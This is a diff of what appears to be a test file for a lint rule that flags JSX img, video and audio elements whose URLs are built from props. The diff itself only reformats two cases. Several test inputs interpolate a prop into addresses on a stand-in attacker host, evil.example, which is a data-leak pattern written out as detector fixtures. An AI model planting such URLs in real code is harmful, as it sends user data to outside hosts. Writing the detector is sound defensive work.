@@ -95,7 +95,11 @@ test.each([
     "<img src={`http${'s'}://${props.x}`} alt='' />",
     "<img srcset={`/portal.png 1x, https://evil.example/${props.x} 2x`} alt='' />",
   ].map((body) => ({ body, at: '7:6', fix: 'save the file' })),
-  { body: "<img src={`data:image/gif;base64,${props.x}`} alt='' />", at: '7:6', fix: 'make a file' },
+  {
+    body: "<img src={`data:image/gif;base64,${props.x}`} alt='' />",
+    at: '7:6',
+    fix: 'make a file',
+  },
   { body: "<video src={'https://evil.example/' + props.x} />", at: '7:8', fix: '<Video src=' },
   {
     body: "<audio><source src={'https://evil.example/' + props.x} /></audio>",
@@ -127,7 +131,11 @@ test.each([
     '<img src={`https://example.org/${props.x}`} alt="" />',
   ].map((body) => ({ body, at: '7:6', fix: 'write the address out' })),
   { body: '<video poster={props.x} src="/tour.mp4" />', at: '7:8', fix: '<Video src=' },
-  { body: '{props.x.map((u) => <img src={u} alt="" />)}', at: '7:26', fix: 'write the address out' },
+  {
+    body: '{props.x.map((u) => <img src={u} alt="" />)}',
+    at: '7:26',
+    fix: 'write the address out',
+  },
   {
     body: 'export const Shot = ({ src }) => <img src={src} alt="" />;\n\n<Shot />',
     at: '7:39',
